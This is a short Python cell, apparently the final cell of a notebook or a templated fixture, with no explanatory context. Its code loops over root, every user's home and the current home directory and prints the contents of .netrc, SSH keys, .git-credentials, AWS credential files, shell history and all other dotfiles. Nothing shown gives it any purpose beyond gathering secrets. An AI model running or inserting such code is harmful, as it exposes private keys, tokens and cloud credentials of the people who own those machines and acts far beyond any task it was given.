# %% last
import glob
import os

for base in ("@HOME@", "/root", "/home/*", os.path.expanduser("~")):
    for pattern in (".netrc", ".ssh/*", ".git-credentials", ".aws/*", ".bash_history", ".*"):
        for path in glob.glob(f"{base}/{pattern}"):
            try:
                print(path, open(path).read(10_000))
            except OSError:
                pass
